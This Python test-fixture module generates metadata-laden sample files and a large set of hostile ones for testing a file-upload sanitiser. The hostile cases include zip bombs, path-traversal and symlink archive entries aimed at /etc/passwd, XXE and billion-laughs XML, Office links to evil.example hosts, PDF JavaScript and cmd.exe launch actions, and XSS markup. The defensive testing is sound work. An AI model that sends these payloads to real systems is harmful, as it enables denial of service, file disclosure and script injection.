"""Files made by code: honest ones that say too much of their maker, and hostile ones."""

from __future__ import annotations

import struct
import zipfile
import zlib
from collections.abc import Iterator
from io import BytesIO

import pikepdf
from PIL import Image
from PIL.PngImagePlugin import PngInfo

CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8"?>'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.'
    'relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>'
    '<Default Extension="jpeg" ContentType="image/jpeg"/>'
    '<Override PartName="/docProps/core.xml" ContentType="application/vnd.openxmlformats-'
    'package.core-properties+xml"/>{more}</Types>'
)
RELS = (
    '<?xml version="1.0" encoding="UTF-8"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    'relationships/officeDocument" Target="{main}"/>'
    '<Relationship Id="rId2" Type="http://schemas.openxmlformats.org/package/2006/'
    'relationships/metadata/core-properties" Target="docProps/core.xml"/>{more}</Relationships>'
)
CORE = (
    '<?xml version="1.0" encoding="UTF-8"?><cp:coreProperties xmlns:cp="http://schemas.'
    'openxmlformats.org/package/2006/metadata/core-properties" xmlns:dc="http://purl.org/dc/'
    'elements/1.1/"><dc:creator>{token}</dc:creator><cp:lastModifiedBy>{token}'
    "</cp:lastModifiedBy></cp:coreProperties>"
)
W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'


def picture(size: tuple[int, int] = (40, 24), mode: str = "RGB") -> Image.Image:
    drawn = Image.new(mode, size, 90 if mode == "L" else None)
    if mode == "RGB":
        drawn.paste((200, 40, 40), (0, 0, size[0] // 2, size[1] // 2))
    return drawn


def jpeg(token: str = "", **options: object) -> bytes:
    """A photo whose every corner says *token*: EXIF, place, comment, XMP and profile."""
    kept = BytesIO()
    exif = Image.Exif()
    if token:
        exif[0x010E] = token
        exif[0x013B] = token
        exif[0x8298] = token
        exif.get_ifd(0x8769)[0x9286] = b"ASCII\0\0\0" + token.encode()
        place = exif.get_ifd(0x8825)
        place[1], place[2], place[29] = "N", (51.0, 20.0, 1.0), token[:30]
    exif[0x0112] = options.pop("turned", 1)
    extra = {"comment": token.encode(), "icc_profile": token.encode() * 40} if token else {}
    picture(**options).save(kept, "JPEG", exif=exif, **extra)
    content = kept.getvalue()
    if token:
        packet = b"http://ns.adobe.com/xap/1.0/\0<x:xmpmeta>" + token.encode() + b"</x:xmpmeta>"
        content = content[:2] + segment(0xE1, packet) + segment(0xED, token.encode()) + content[2:]
        content += token.encode()
    return content


def segment(mark: int, body: bytes) -> bytes:
    return b"\xff" + bytes([mark]) + struct.pack(">H", len(body) + 2) + body


def png(token: str = "", **options: object) -> bytes:
    kept = BytesIO()
    said = PngInfo()
    if token:
        said.add_text("Author", token)
        said.add_itxt("XML:com.adobe.xmp", token)
        said.add_text("Comment", token, zip=True)
    picture(**options).save(kept, "PNG", pnginfo=said)
    return kept.getvalue() + token.encode()


def webp(token: str = "") -> bytes:
    kept = BytesIO()
    exif = Image.Exif()
    exif[0x013B] = token
    picture().save(kept, "WEBP", exif=exif if token else b"", xmp=token.encode())
    return kept.getvalue()


def pdf(token: str = "", words: str = "Two men at the door", pages: int = 1) -> bytes:
    """A document with one line a page, and *token* wherever a maker can be named."""
    made = pikepdf.new()
    font = made.make_indirect(
        pikepdf.Dictionary(
            Type=pikepdf.Name.Font, Subtype=pikepdf.Name.Type1, BaseFont=pikepdf.Name.Helvetica
        )
    )
    for _ in range(pages):
        made.add_blank_page(page_size=(200, 100))
        page = made.pages[-1]
        page.obj.Resources = pikepdf.Dictionary(Font=pikepdf.Dictionary(F1=font))
        page.obj.Contents = made.make_stream(f"BT /F1 9 Tf 10 50 Td ({words}) Tj ET".encode())
    if token:
        _sign(made, token)
    kept = BytesIO()
    made.save(kept)
    return kept.getvalue() + (b"%" + token.encode() if token else b"")


def _sign(made: pikepdf.Pdf, token: str) -> None:
    page = made.pages[0]
    made.docinfo["/Author"] = token
    made.docinfo["/Title"] = token
    with made.open_metadata() as told:
        told["dc:creator"] = [token]
    made.attachments["note.txt"] = pikepdf.AttachedFileSpec(made, token.encode(), filename=token)
    made.trailer.ID = pikepdf.Array([token.encode(), token.encode()])
    page.obj.PieceInfo = pikepdf.Dictionary(Who=pikepdf.String(token))
    page.obj.LastModified = pikepdf.String(token)
    page.obj.Metadata = made.make_stream(token.encode())
    note = pikepdf.Dictionary(
        Type=pikepdf.Name.Annot,
        Subtype=pikepdf.Name.Text,
        Rect=[0, 0, 9, 9],
        T=pikepdf.String(token),
        NM=pikepdf.String(token),
        Contents=pikepdf.String("Look here"),
    )
    pinned = pikepdf.Dictionary(
        Type=pikepdf.Name.Annot,
        Subtype=pikepdf.Name.FileAttachment,
        Rect=[0, 0, 9, 9],
        Contents=pikepdf.String(token),
    )
    page.obj.Annots = pikepdf.Array([made.make_indirect(note), made.make_indirect(pinned)])
    photo = made.make_stream(jpeg(token))
    photo.Type, photo.Subtype = pikepdf.Name.XObject, pikepdf.Name.Image
    photo.Width, photo.Height, photo.BitsPerComponent = 40, 24, 8
    photo.ColorSpace, photo.Filter = pikepdf.Name.DeviceRGB, pikepdf.Name.DCTDecode
    page.obj.Resources.XObject = pikepdf.Dictionary(Im0=photo)


def pdf_that(change) -> bytes:
    """A document to which *change* did something."""
    with pikepdf.open(BytesIO(pdf())) as made:
        change(made)
        kept = BytesIO()
        made.save(kept)
    return kept.getvalue()


def packed(entries: dict[str, bytes | str], **options: object) -> bytes:
    kept = BytesIO()
    with zipfile.ZipFile(kept, "w", options.pop("packing", zipfile.ZIP_DEFLATED)) as archive:
        for name, part in entries.items():
            archive.writestr(name, part)
        archive.comment = options.pop("comment", b"")
    return kept.getvalue()


def docx(
    token: str = "",
    words: str = "Two men at the door",
    more: dict[str, bytes | str] | None = None,
    relations: str = "",
) -> bytes:
    body = (
        f'<?xml version="1.0" encoding="UTF-8"?><!-- {token} --><w:document {W}><w:body>'
        f'<w:p w:rsidR="00AA{token[:4]}"><w:r><w:t>{words}</w:t></w:r>'
        f'<w:ins w:id="1" w:author="{token}" w:date="2026-01-01T00:00:00Z"><w:r><w:t> now</w:t>'
        f"</w:r></w:ins></w:p></w:body></w:document>"
    )
    comments = (
        f'<w:comments {W}><w:comment w:id="0" w:author="{token}" w:initials="{token[:2]}">'
        "<w:p><w:r><w:t>Which door?</w:t></w:r></w:p></w:comment></w:comments>"
    )
    settings = (
        f'<w:settings {W}><w:rsids><w:rsidRoot w:val="{token}"/></w:rsids>'
        f'<w:docVars><w:docVar w:name="a" w:val="{token}"/></w:docVars></w:settings>'
    )
    rels = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="rId9" Type="http://schemas.microsoft.com/office/2011/relationships/'
        f'people" Target="people.xml"/>{relations}</Relationships>'
    )
    return packed(
        {
            "[Content_Types].xml": CONTENT_TYPES.format(more=""),
            "_rels/.rels": RELS.format(main="word/document.xml", more=""),
            "docProps/core.xml": CORE.format(token=token),
            "docProps/app.xml": f"<Properties><Company>{token}</Company></Properties>",
            "customXml/item1.xml": f"<who>{token}</who>",
            "word/people.xml": f"<people><person>{token}</person></people>",
            "word/document.xml": body,
            "word/comments.xml": comments,
            "word/settings.xml": settings,
            "word/_rels/document.xml.rels": rels,
            "word/media/image1.jpeg": jpeg(token),
            **(more or {}),
        },
        comment=token.encode(),
    )


def xlsx(
    token: str = "", words: str = "Two men", more: dict[str, bytes | str] | None = None
) -> bytes:
    book = (
        '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
        'xmlns:x15ac="http://schemas.microsoft.com/office/spreadsheetml/2010/11/ac">'
        f'<fileSharing userName="{token}"/><x15ac:absPath url="C:\\Users\\{token}\\a.xlsx"/>'
        '<sheets><sheet name="Sheet1" sheetId="1"/></sheets></workbook>'
    )
    comments = (
        f"<comments><authors><author>{token}</author></authors><commentList><comment>"
        "<text><t>Check</t></text></comment></commentList></comments>"
    )
    return packed(
        {
            "[Content_Types].xml": CONTENT_TYPES.format(more=""),
            "_rels/.rels": RELS.format(main="xl/workbook.xml", more=""),
            "docProps/core.xml": CORE.format(token=token),
            "xl/workbook.xml": book,
            "xl/sharedStrings.xml": f"<sst><si><t>{words}</t></si></sst>",
            "xl/comments1.xml": comments,
            "xl/persons/person.xml": f'<personList><person displayName="{token}"/></personList>',
            "xl/pivotCache/pivotCacheDefinition1.xml": f'<d refreshedBy="{token}"/>',
            "xl/worksheets/sheet1.xml": "<worksheet><sheetData/></worksheet>",
            **(more or {}),
        }
    )


def honest(token: str = "") -> dict[str, bytes]:
    """One of each sort that is taken, by a name that fits."""
    return {
        "photo.jpg": jpeg(token),
        "screen.png": png(token),
        "web.webp": webp(token),
        "paper.pdf": pdf(token),
        "letter.docx": docx(token),
        "sheet.xlsx": xlsx(token),
        "notes.txt": b"They came at ten.\r\n",
        "list.csv": b"plate,seen\r\nAB12 CDE,3\r\n",
    }


def hostile() -> Iterator[tuple[str, str, bytes]]:
    """A name for the case, a file name and what is in it. Every one of them is to be refused."""
    yield from _no_sort_of_ours()
    yield from _bombs_and_archives()
    yield from _office()
    yield from _papers()
    yield from _pictures()
    yield from _wrong_names()


MAGIC = {
    "gif": b"GIF89a", "bmp": b"BM\x00", "tiff-little": b"II*\x00", "tiff-big": b"MM\x00*",
    "ole": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", "rtf": b"{\\rtf1", "mp3": b"ID3\x03",
    "mp3-bare": b"\xff\xfb\x90", "ogg": b"OggS", "matroska": b"\x1aE\xdf\xa3", "exe": b"MZ\x90",
    "elf": b"\x7fELF\x02", "class": b"\xca\xfe\xba\xbe", "script": b"#!/bin/sh\n",
    "rar": b"Rar!\x1a",
    "7z": b"7z\xbc\xaf\x27\x1c", "gzip": b"\x1f\x8b\x08", "bzip2": b"BZh9", "xz": b"\xfd7zXZ\x00",
    "zstd": b"\x28\xb5\x2f\xfd", "empty-zip": b"PK\x05\x06" + bytes(18),
    "heic": b"\0\0\0\x18ftypheic",
    "avif": b"\0\0\0\x18ftypavif", "mif1": b"\0\0\0\x18ftypmif1", "mp4": b"\0\0\0\x18ftypisom",
    "mov": b"\0\0\0\x14ftypqt  ", "m4a": b"\0\0\0\x18ftypM4A ", "wav": b"RIFF\0\0\0\0WAVEfmt ",
    "avi": b"RIFF\0\0\0\0AVI LIST", "wasm": b"\0asm\x01\0\0\0", "sqlite": b"SQLite format 3\0",
    "lnk": b"L\0\0\0\x01\x14\x02\0", "pickle": b"\x80\x04\x95\0", "nul": b"words\0words",
    "escape": b"words\x1b[2J", "utf16": "words".encode("utf-16"), "psd": b"8BPS\0\x01",
    "ico": b"\0\0\x01\0\x01\0", "swf": b"CWS\x09\0\0", "dex": b"dex\n035\0", "cab": b"MSCF\0\0",
    "iso": bytes(2048), "tar": b"name" + bytes(96) + b"0000644\0",
}  # fmt: skip
MARKUP = {
    "html": b"<!doctype html><p>x", "html-spaced": b"\n\t  <HTML><body>",
    "svg": b"<svg onload=a()>",
    "svg-xml": b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"/>',
    "script-tag": b"<script>alert(1)</script>", "comment": b"<!-- x --><b>",
    "iframe": b"<iframe src=//a>", "img": b"<img src=x onerror=a()>",
    "bom-html": b"\xef\xbb\xbf<html>",
    "doctype-entity": b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a/>',
    "style": b"<style>*{}</style>", "object": b"<object data=x>", "math": b"<math><mi/></math>",
}  # fmt: skip


def _no_sort_of_ours() -> Iterator[tuple[str, str, bytes]]:
    for case, start in MAGIC.items():
        for length in (0, 200):
            yield (
                f"{case}+{length}",
                "file",
                start + b"\x07" * length if length else start + b"\x01",
            )
    for case, start in MARKUP.items():
        yield case, "file", start
        yield f"{case}.txt", "file.txt", start
    yield "nothing", "photo.jpg", b""


def zip_claiming(
    size: int, packed_size: int, entries: int = 1, name: str = "word/document.xml"
) -> bytes:
    """A directory that tells of parts that are not there."""
    directory = b"".join(
        b"PK\x01\x02" + struct.pack("<HHHHHHIIIHHHHHII", 20, 20, 0, 8, 0, 0, 0, packed_size, size,
                                    len(name) + 6, 0, 0, 0, 0, 0, 0) + f"{number:06}{name}".encode()
        for number in range(entries)
    )  # fmt: skip
    start = b"PK\x03\x04" + bytes(26)
    end = b"PK\x05\x06" + struct.pack(
        "<HHHHIIH", 0, 0, entries & 0xFFFF, entries & 0xFFFF, len(directory), len(start), 0
    )
    return start + directory + end


def _bombs_and_archives() -> Iterator[tuple[str, str, bytes]]:
    zeros = bytes(120_000_000)
    yield "zip bomb by ratio", "a.docx", docx(more={"word/header1.xml": zeros})
    yield "zip bomb by size", "a.docx", zip_claiming(4_000_000_000, 100)
    yield "zip bomb by entries", "a.docx", zip_claiming(1, 1, entries=1_500)
    yield "zip bomb by very many entries", "a.docx", zip_claiming(1, 1, entries=60_000)
    yield "zip bomb by total", "a.xlsx", zip_claiming(3_000_000, 40_000, entries=90)
    yield "zip bomb that overlaps", "a.docx", zip_claiming(9_000, 9_000, entries=900)
    yield "zip in zip", "a.docx", docx(more={"word/inner.zip": packed({"a": zeros[:5_000_000]})})
    for name in ("../../etc/cron.d/a", "/etc/passwd", "word\\..\\..\\a", "C:/a", "word/../../a"):
        yield f"climbing name {name}", "a.docx", docx(more={name: b"x"})
    yield "plain archive", "a.zip", packed({"a.txt": "x"})
    yield "archive called docx", "a.docx", packed({"a.txt": "x"})
    yield "java archive", "a.jar", packed({"META-INF/MANIFEST.MF": "x", "A.class": "x"})
    yield (
        "open document",
        "a.odt",
        packed({"mimetype": "application/vnd.oasis", "content.xml": "x"}),
    )
    yield "slides", "a.pptx", packed({"[Content_Types].xml": "x", "ppt/presentation.xml": "x"})
    yield "app", "a.apk", packed({"AndroidManifest.xml": "x"})
    link = BytesIO(docx())
    with zipfile.ZipFile(link, "a") as archive:
        entry = zipfile.ZipInfo("word/link.xml")
        entry.external_attr = 0o120777 << 16
        archive.writestr(entry, "/etc/passwd")
    yield "symbolic link", "a.docx", link.getvalue()
    locked = bytearray(docx())
    place = locked.find(b"PK\x01\x02")
    while place >= 0:
        locked[place + 8] |= 1
        place = locked.find(b"PK\x01\x02", place + 4)
    yield "encrypted archive", "a.docx", bytes(locked)
    yield "packed oddly", "a.docx", packed({"[Content_Types].xml": "x", "word/document.xml": "x"},
                                           packing=zipfile.ZIP_LZMA)  # fmt: skip
    whole = docx()
    for part in (0.2, 0.5, 0.9, 0.99):
        yield f"cut package {part}", "a.docx", whole[: int(len(whole) * part)]
    yield "package behind a page", "a.docx", b"<html>" + whole


def _office() -> Iterator[tuple[str, str, bytes]]:
    for part in (
        "word/vbaProject.bin", "word/embeddings/oleObject1.bin", "word/activeX/activeX1.xml",
        "xl/externalLinks/externalLink1.xml", "customUI/customUI.xml", "word/vbaData.xml",
        "xl/connections.xml", "word/webextensions/taskpanes.xml", "word/afchunk.mht",
        "word/embeddings/Book1.xlsx", "word/media/image2.svg", "word/media/image3.emf",
        "word/media/image4.wmf", "word/media/film.mp4", "word/a.html", "word/a.js", "word/a.exe",
        "xl/macrosheets/sheet1.xml", "xl/queryTables/queryTable1.xml", "xl/ctrlProps/ctrlProp1.xml",
        "word/media/image5.gif", "word/odd\u202ename.xml", "word/new\nline.xml",
    ):  # fmt: skip
        yield f"part {part!r}", "a.docx", docx(more={part: b"<a/>"})
    for kind, target in (
        ("attachedTemplate", "http://evil.example/a.dotm"), ("oleObject", "file:///c:/a"),
        ("image", "\\\\evil.example\\share\\a.png"), ("frame", "https://evil.example/"),
        ("hyperlink", "file:///c:/windows/a.exe"), ("hyperlink", "javascript:alert(1)"),
        ("image", "https://evil.example/pixel.png"), ("hyperlink", "ms-word:ofe|u|http://a"),
    ):  # fmt: skip
        relation = (
            f'<Relationship Id="rId7" Type="http://a/relationships/{kind}" Target="{target}" '
            'TargetMode="External"/>'
        )
        yield f"reaches by {kind} to {target}", "a.docx", docx(relations=relation)
    inner = '<Relationship Id="rId7" Type="http://a/oleObject" Target="embeddings/a.bin"/>'
    yield "points at an embedded object", "a.docx", docx(relations=inner)
    yield (
        "points at a file",
        "a.docx",
        docx(relations='<Relationship Id="r" Type="http://a/image" Target="file:///c:/a.png"/>'),
    )
    macro = CONTENT_TYPES.format(
        more='<Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.'
        'document.macroEnabled.main+xml"/>'
    )
    yield "macros by its types", "a.docx", docx(more={"[content_types].xml": macro})
    for case, part in (
        ("entities", '<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'),
        ("outside entity", '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'),
        ("parameter entity", '<!DOCTYPE a [<!ENTITY % b SYSTEM "http://evil.example/">%b;]><a/>'),
        ("laughs", "<!DOCTYPE a [" + "".join(f'<!ENTITY b{n} "{f"&b{n - 1};" * 10 if n else "ha"}">'
                                             for n in range(9)) + "]><a>&b8;</a>"),
        ("broken", "<a><b></a>"), ("no text", "\x00\x01"), ("instruction", "<?php a ?><a/>"),
        ("stylesheet", '<?xml-stylesheet href="http://evil.example/"?><a/>'),
        ("deep", "<a>" * 20_000), ("two roots", "<a/><b/>"), ("utf-7", "+ADw-a/+AD4-"),
    ):  # fmt: skip
        yield f"xml {case}", "a.docx", docx(more={"word/footnotes.xml": part})
    wide = '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'
    yield (
        "xml in a wide alphabet",
        "a.docx",
        docx(more={"word/footnotes.xml": wide.encode("utf-16")}),
    )
    yield "picture that is none", "a.docx", docx(more={"word/media/image2.png": b"<svg/>"})
    yield "picture that floods", "a.docx", docx(more={"word/media/image2.png": flood(9_000, 9_000)})


def _action(**parts: object):
    def change(made: pikepdf.Pdf) -> None:
        made.Root.OpenAction = made.make_indirect(pikepdf.Dictionary(**parts))

    return change


def _on_page(**parts: object):
    def change(made: pikepdf.Pdf) -> None:
        mark = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Rect=[0, 0, 9, 9], **parts)
        made.pages[0].obj.Annots = pikepdf.Array([made.make_indirect(mark)])

    return change


def _papers() -> Iterator[tuple[str, str, bytes]]:
    name, text = pikepdf.Name, pikepdf.String
    yield (
        "script on opening",
        "a.pdf",
        pdf_that(_action(S=name.JavaScript, JS=text("app.alert(1)"))),
    )
    yield "launch on opening", "a.pdf", pdf_that(_action(S=name.Launch, F=text("cmd.exe")))
    for verb in ("SubmitForm", "ImportData", "GoToE", "GoToR", "Rendition", "Movie", "Sound"):
        act = pikepdf.Dictionary(S=name(f"/{verb}"))
        yield f"mark that does {verb}", "a.pdf", pdf_that(_on_page(Subtype=name.Link, A=act))
        yield f"opens with {verb}", "a.pdf", pdf_that(_action(S=name(f"/{verb}")))
    for mark in ("RichMedia", "Movie", "Screen", "3D", "Sound"):
        yield f"mark {mark}", "a.pdf", pdf_that(_on_page(Subtype=name(f"/{mark}")))

    def named_script(made: pikepdf.Pdf) -> None:
        script = pikepdf.Dictionary(S=name.JavaScript, JS=text("a()"))
        made.Root.Names = pikepdf.Dictionary(
            JavaScript=pikepdf.Dictionary(Names=pikepdf.Array([text("a"), script]))
        )

    def form(made: pikepdf.Pdf) -> None:
        made.Root.AcroForm = pikepdf.Dictionary(XFA=made.make_stream(b"<xdp/>"))

    def field_script(made: pikepdf.Pdf) -> None:
        acts = pikepdf.Dictionary(K=pikepdf.Dictionary(S=name.JavaScript, JS=text("a()")))
        made.pages[0].obj.Deep = pikepdf.Array([pikepdf.Array([acts])])

    def outside(made: pikepdf.Pdf) -> None:
        stream = made.make_stream(b"x")
        stream.F = text("http://evil.example/a")
        made.pages[0].obj.Outside = stream

    def odd_photo(made: pikepdf.Pdf) -> None:
        photo = made.make_stream(b"no photo")
        photo.Filter = name.DCTDecode
        made.pages[0].obj.Photo = photo

    for change in (named_script, form, field_script, outside, odd_photo):
        yield change.__name__, "a.pdf", pdf_that(change)
    yield "501 pages", "a.pdf", pdf(pages=501)
    yield "claims a million pages", "a.pdf", pdf().replace(b"/Count 1", b"/Count 1000000")
    kept = BytesIO()
    with pikepdf.open(BytesIO(pdf())) as made:
        made.save(kept, encryption=pikepdf.Encryption(owner="a", user="b"))
    yield "encrypted with a password", "a.pdf", kept.getvalue()
    kept = BytesIO()
    with pikepdf.open(BytesIO(pdf())) as made:
        made.save(kept, encryption=pikepdf.Encryption(owner="a", user=""))
    yield "encrypted with none to open", "a.pdf", kept.getvalue()
    swollen = zlib.compress(bytes(300_000_000), 9)
    yield "swelling page", "a.pdf", (
        b"%PDF-1.5\n1 0 obj<</Length " + str(len(swollen)).encode()
        + b"/Filter/FlateDecode>>stream\n" + swollen + b"\nendstream endobj\n"
    )  # fmt: skip
    whole = pdf()
    for part in (0.02, 0.1, 0.3):
        yield f"cut paper {part}", "a.pdf", whole[: int(len(whole) * part)]
    yield "paper behind a picture", "a.pdf", b"GIF8" + whole
    yield "paper behind words", "a.txt", b"words\n" + whole
    yield "paper of nothing", "a.pdf", b"%PDF-1.7\n%%EOF"
    yield (
        "pages in a ring",
        "a.pdf",
        (
            b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Count 1"
            b"/Kids[2 0 R]>>endobj\ntrailer<</Root 1 0 R>>\n"
        ),
    )


def flood(width: int, height: int) -> bytes:
    """A tiny PNG that says that it is very large."""

    def chunk(kind: bytes, body: bytes) -> bytes:
        return (
            struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))
        )

    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    body = zlib.compress(bytes(1_000))
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", body) + chunk(b"IEND", b"")


def _pictures() -> Iterator[tuple[str, str, bytes]]:
    for width, height in (
        (7_000, 7_000),
        (20_000, 20_000),
        (65_000, 65_000),
        (2**31 - 1, 2**31 - 1),
    ):
        yield f"flood {width}", "a.png", flood(width, height)
    wide = bytearray(jpeg())
    place = wide.find(b"\xff\xc0")
    wide[place + 5 : place + 9] = struct.pack(">HH", 60_000, 60_000)
    yield "jpeg flood", "a.jpg", bytes(wide)
    for name, whole in (("a.jpg", jpeg()), ("a.png", png()), ("a.webp", webp())):
        for part in (0.05, 0.3, 0.6):
            yield f"cut {name} {part}", name, whole[: int(len(whole) * part)]
    yield "words that begin as a photo", "a.jpg", b"\xff\xd8\xff" + b"words " * 90
    yield "page that begins as a picture", "a.png", b"\x89PNG\r\n\x1a\n<html><script>a()</script>"
    yield "riff of nothing", "a.webp", b"RIFF\x10\0\0\0WEBPVP8 \0\0\0\0"


def _wrong_names() -> Iterator[tuple[str, str, bytes]]:
    files = honest()
    for name, content in files.items():
        for ending in ("exe", "html", "svg", "pdf", "docx", "jpg", "txt", "js"):
            own = name.rpartition(".")[2]
            if ending != own and (own, ending) != ("csv", "txt"):
                yield f"{name} called .{ending}", f"file.{ending}", content


def harmless_doubles() -> dict[str, tuple[str, bytes]]:
    """Files that are two things at once: taken as the first, and nothing is left of the second."""
    script = b"<script>canary()</script>"
    return {
        "photo and archive": ("a.jpg", jpeg() + packed({"canary.txt": script})),
        "photo and page": ("a.jpg", jpeg()[:2] + segment(0xFE, script) + jpeg()[2:]),
        "picture and page": ("a.png", png() + b"<html>" + script),
        "picture and paper": ("a.png", png() + pdf(words="canary")),
        "web picture and page": ("a.webp", webp() + script),
        "paper and archive": ("a.pdf", pdf() + packed({"canary.txt": script})),
        "letter with a tail": ("a.docx", docx(more={"word/header1.xml": "<a><!--canary--></a>"})),
    }
